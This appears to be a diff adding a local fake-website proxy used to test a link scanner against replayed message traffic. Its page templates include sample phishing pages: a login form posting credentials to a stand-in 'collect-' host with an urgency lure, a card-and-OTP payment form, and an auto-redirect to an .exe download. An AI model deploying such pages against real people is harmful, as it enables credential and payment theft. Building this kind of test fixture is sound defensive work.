@@ -0,0 +1,141 @@
+"""
+🧪 مواقع بديلة محلية لفحص الروابط
+==================================
+
+إعادة الطلبات المسجلة (tools/replay_traffic.py) تفتح كل الروابط اللي
+في الرسائل، وما نبي نزور مواقع حقيقية (ولا مواقع تصيد!) من بيئة الاختبار.
+
+السيرفر يشتغل كـ HTTP proxy: السيرفر الرئيسي يشتغل مع
+HTTP_PROXY=http://127.0.0.1:8200 (httpx يحترمه)، وكل رابط يرجع صفحة
+ثابتة حسب hash الرابط نفسه (نفس الرابط = نفس الصفحة دائماً):
+- صفحة عادية، صفحة دخول (كلمة مرور)، صفحة دفع، تحميل ملف، تحويل، 404
+- تأخير قابل للتحكم (مثل زمن المواقع الحقيقية)
+- طلبات HTTPS (CONNECT) ترفض فوراً: الإعادة تحول الروابط لـ http
+
+طريقة الاستخدام:
+    python tools/fake_link_server.py --port 8200 --latency 0.08
+
+    # ثم شغّل السيرفر الرئيسي عليه:
+    HTTP_PROXY=http://127.0.0.1:8200 NO_PROXY=127.0.0.1,localhost python main.py
+"""
+
+import argparse
+import asyncio
+import hashlib
+import random
+from typing import Dict, Tuple
+from urllib.parse import urlsplit
+
+# نوع الصفحة ← نسبتها من الروابط
+PAGE_KINDS = [("normal", 55), ("login", 15), ("payment", 8), ("download", 5), ("redirect", 7), ("missing", 10)]
+
+PAGES = {
+    "normal": "<html><head><title>{host}</title></head><body><h1>مرحباً</h1>"
+              "<p>صفحة معلومات عامة عن الخدمات والعروض.</p><a href=\"/about\">من نحن</a></body></html>",
+    "login": "<html><head><title>تسجيل الدخول - {host}</title></head><body>"
+             "<form action=\"http://collect-{token}.xyz/login\" method=\"post\">"
+             "<input type=\"text\" name=\"username\"><input type=\"password\" name=\"password\">"
+             "<button>تسجيل الدخول</button></form><p>أكد هويتك خلال 24 ساعة لتجنب إيقاف الحساب</p></body></html>",
+    "payment": "<html><head><title>الدفع</title></head><body><form method=\"post\">"
+               "<input name=\"card_number\" placeholder=\"رقم البطاقة\"><input name=\"cvv\">"
+               "<input name=\"otp\" placeholder=\"رمز التحقق\"><button>ادفع الآن</button></form></body></html>",
+    "download": "<html><body><p>فاتورتك جاهزة</p><a href=\"/invoice-{token}.exe\">تحميل الفاتورة</a>"
+                "<script>window.location='/invoice-{token}.exe'</script></body></html>",
+}
+
+settings = {"latency": 0.08, "jitter": 0.04}
+counters: Dict[str, int] = {"requests": 0, "connect_refused": 0}
+
+
+def page_for(url: str) -> Tuple[str, str]:
+    """(نوع الصفحة، token) ثابتة لنفس الرابط"""
+    digest = hashlib.sha256(url.encode("utf-8")).hexdigest()
+    bucket = int(digest[:8], 16) % 100
+    for kind, share in PAGE_KINDS:
+        if bucket < share:
+            return kind, digest[:8]
+        bucket -= share
+    return "normal", digest[:8]
+
+
+def build_response(method: str, url: str) -> bytes:
+    parts = urlsplit(url)
+    host = parts.hostname or "localhost"
+    kind, token = page_for(url)
+    # الصفحة اللي تحولنا لها ما تتحول مرة ثانية
+    if kind == "redirect" and "/r-" in parts.path:
+        kind = "normal"
+    counters[kind] = counters.get(kind, 0) + 1
+
+    headers = {"Content-Type": "text/html; charset=utf-8", "Connection": "keep-alive"}
+    if kind == "redirect":
+        status, body = "302 Found", b""
+        headers["Location"] = f"http://{host}/r-{token}"
+    elif kind == "missing":
+        status, body = "404 Not Found", b"<html><body>Not Found</body></html>"
+    else:
+        status, body = "200 OK", PAGES[kind].format(host=host, token=token).encode("utf-8")
+
+    headers["Content-Length"] = str(len(body))
+    head = f"HTTP/1.1 {status}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
+    return head.encode("latin-1") + (b"" if method == "HEAD" else body)
+
+
+async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
+    try:
+        while True:
+            request_line = await reader.readline()
+            if not request_line:
+                break
+            method, target, _ = request_line.decode("latin-1").split(" ", 2)
+            host = ""
+            while True:
+                line = await reader.readline()
+                if line in (b"\r\n", b"\n", b""):
+                    break
+                name, _, value = line.decode("latin-1").partition(":")
+                if name.lower() == "host":
+                    host = value.strip()
+
+            if method == "CONNECT":
+                counters["connect_refused"] += 1
+                writer.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+                await writer.drain()
+                break
+
+            counters["requests"] += 1
+            # طلب عبر proxy: الرابط كامل، وطلب مباشر: المسار + Host
+            url = target if target.startswith("http") else f"http://{host}{target}"
+            await asyncio.sleep(max(0.0, settings["latency"] + random.uniform(-settings["jitter"], settings["jitter"])))
+            writer.write(build_response(method, url))
+            await writer.drain()
+    except (ConnectionError, ValueError):
+        pass
+    finally:
+        writer.close()
+
+
+async def serve(host: str, port: int):
+    server = await asyncio.start_server(handle, host, port)
+    async with server:
+        await server.serve_forever()
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=8200)
+    parser.add_argument("--latency", type=float, default=0.08, help="تأخير كل صفحة بالثواني")
+    parser.add_argument("--jitter", type=float, default=0.04)
+    args = parser.parse_args()
+    settings.update(latency=args.latency, jitter=args.jitter)
+
+    print(f"🧪 المواقع البديلة على {args.host}:{args.port} (تأخير {args.latency}s)")
+    try:
+        asyncio.run(serve(args.host, args.port))
+    except KeyboardInterrupt:
+        print(f"📊 {counters}")
+
+
+if __name__ == "__main__":
+    main()